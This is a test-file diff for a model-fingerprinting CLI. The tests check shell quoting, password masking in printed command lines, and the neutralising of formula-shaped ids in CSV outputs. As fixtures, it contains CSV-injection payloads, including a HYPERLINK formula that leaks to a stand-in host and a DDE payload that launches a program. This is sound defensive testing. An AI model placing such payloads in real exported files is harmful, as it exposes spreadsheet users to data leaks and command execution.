@@ -9,7 +9,8 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { decodeModel, encodeModel, EXTERNAL } from '../src/onnx/codec.js';
-import { parseCsv } from '../src/util/csv.js';
+import { guardCell, parseCsv, unguardCell } from '../src/util/csv.js';
+import { commandLine } from '../src/util/shell.js';
 import { BIN, parseJson, runCli, spawnCli, tmpDir, type CliResult } from './helpers/cli.js';
 import { copyModel, tinyZoo, type ZooModel } from './helpers/zoo.js';
 
@@ -348,7 +349,13 @@ describe('item 8: the smaller ones', () => {
     const r = runCli(['lineage', '--base', byId('alpha-base').path, '--derived', fifoModel, '-o', path.join(work, 'r.csv'), '--registry', path.join(work, 'reg.db'), '--json', ...FAST]);
     expect(r.code, r.stderr).toBe(3);
     expect(parseJson<{ failures: Array<{ code: string }> }>(r).failures[0].code).toBe('load_failed');
-    expect(r.stderr).not.toMatch(/onnxruntime|\x1b\[/);
+    expect(r.stderr).not.toContain('onnxruntime');
+    expect(r.stderr).not.toContain('\u001b['); // no ANSI colour codes
+  });
+
+  it('printed and recorded command lines are shell-quoted and carry no password', () => {
+    expect(commandLine(['lineage', '-o', "it's a.csv", '--registry', 'postgres://me:s3cret@db/mp'])).toBe("modelprint lineage -o 'it'\\''s a.csv' --registry 'postgres://me:***@db/mp'");
+    expect(commandLine(['--registry=postgres:/me:pw@db/mp', 'x?password=pw2'])).not.toMatch(/pw@|pw2/);
   });
 
   it('the resume command printed after SIGTERM is shell-quoted: pasting it resumes the run', async () => {
@@ -376,4 +383,66 @@ describe('item 8: the smaller ones', () => {
     const ids = parseCsv(fs.readFileSync(out, 'utf8')).rows.map((x) => x.derived_model_name);
     expect(ids.sort()).toEqual([...derived].sort());
   }, 180_000);
+});
+
+describe('item 7: formula-shaped ids are neutralised in every CSV and read back as they were', () => {
+  const EVIL = ['=HYPERLINK("http://evil.example/?leak","click")', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '-2+3'];
+
+  it('guardCell / unguardCell: a quote before formula starts, numbers untouched, a round trip for any string', () => {
+    expect(guardCell('=1+1')).toBe("'=1+1");
+    expect(guardCell('\tx')).toBe("'\tx");
+    expect(guardCell('\rx')).toBe("'\rx");
+    expect(guardCell('-1.0')).toBe('-1.0');
+    expect(guardCell('-1e-3')).toBe('-1e-3');
+    expect(guardCell(-1)).toBe(-1);
+    expect(guardCell('alpha-base')).toBe('alpha-base');
+    for (const s of [...EVIL, "'=x", "''@y", "'plain", '-', '+1', "'", '', 'a=b']) expect(unguardCell(String(guardCell(s)))).toBe(s);
+  });
+
+  it('lineage, resume, sketches, similarity, matrix and analyses', () => {
+    const work = tmpDir('modelprint-formula-');
+    const paths = ['alpha-int8', 'alpha-lora', 'beta-base', 'alpha-ft-light'].map((id) => byId(id).path);
+    const modelsCsv = path.join(work, 'models.csv');
+    fs.writeFileSync(modelsCsv, `model_id,path\n${EVIL.map((id, i) => `"${id.replace(/"/g, '""')}",${paths[i]}`).join('\n')}\n`);
+    const reg = path.join(work, 'reg.db');
+    const out = path.join(work, 'r.csv');
+    const sketches = path.join(work, 's.mpsk');
+    const args = ['lineage', '--base', byId('alpha-base').path, '--derived', modelsCsv, '-o', out, '--registry', reg, '--json', ...FAST];
+    const r = runCli([...args, '--sketches-out', sketches]);
+    expect(r.code, r.stderr).toBe(0);
+    const text = fs.readFileSync(out, 'utf8');
+    // No cell of the file starts with a formula character (after the CSV quoting).
+    const cells = text.split('\n').slice(1, -1).map((l) => l.split(',')[1]);
+    for (const c of cells) expect(c.replace(/^"/, '')).toMatch(/^'[=+\-@]/);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`);
+    expect(parseCsv(text).rows.map((x) => x.derived_model_name)).toEqual(EVIL);
+
+    // Resume recognises every row: nothing is computed or appended again.
+    const again = runCli(args);
+    expect(again.code, again.stderr).toBe(0);
+    expect(parseJson<{ skipped: number; ok: number }>(again)).toMatchObject({ skipped: 4, ok: 0 });
+    expect(fs.readFileSync(out, 'utf8')).toBe(text);
+
+    // The similarity CSV (Rust writer) of the lineage sketches: base + the four ids.
+    const m = path.join(work, 'm.csv');
+    const s = runCli(['similarity', '--sketches', sketches, '-o', m, '--json']);
+    expect(s.code, s.stderr).toBe(0);
+    const head = fs.readFileSync(m, 'utf8').split('\n')[0];
+    expect(head).toContain(`,"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`);
+    expect(head).toContain(",'@SUM(A1:A9)");
+    expect(parseCsv(fs.readFileSync(m, 'utf8')).header.slice(2)).toEqual(EVIL);
+
+    // matrix: overlap_matrix.csv, and an analysis reading it back keys the same ids.
+    const mx = path.join(work, 'mx');
+    const mr = runCli(['matrix', '--models', modelsCsv, '--output-dir', mx, '--registry', reg, '--no-dashboard', '--json', ...FAST]);
+    expect(mr.code, mr.stderr).toBe(0);
+    const matrixText = fs.readFileSync(path.join(mx, 'overlap_matrix.csv'), 'utf8');
+    for (const line of matrixText.split('\n').slice(1, -1)) expect(line.replace(/^"/, '')).toMatch(/^'[=+\-@]/);
+    const near = path.join(work, 'near');
+    const n = runCli(['analyze', 'neighbours', '--matrix', path.join(mx, 'overlap_matrix.csv'), '-o', near, '--json']);
+    expect(n.code, n.stderr).toBe(0);
+    const nearCsv = parseCsv(fs.readFileSync(path.join(near, 'neighbours.csv'), 'utf8'));
+    expect(nearCsv.rows.map((x) => x.model_id).sort()).toEqual([...EVIL].sort());
+    for (const line of fs.readFileSync(path.join(near, 'neighbours.csv'), 'utf8').split('\n').slice(1, -1)) expect(line.replace(/^"/, '')).toMatch(/^'[=+\-@]/);
+  }, 240_000);
 });
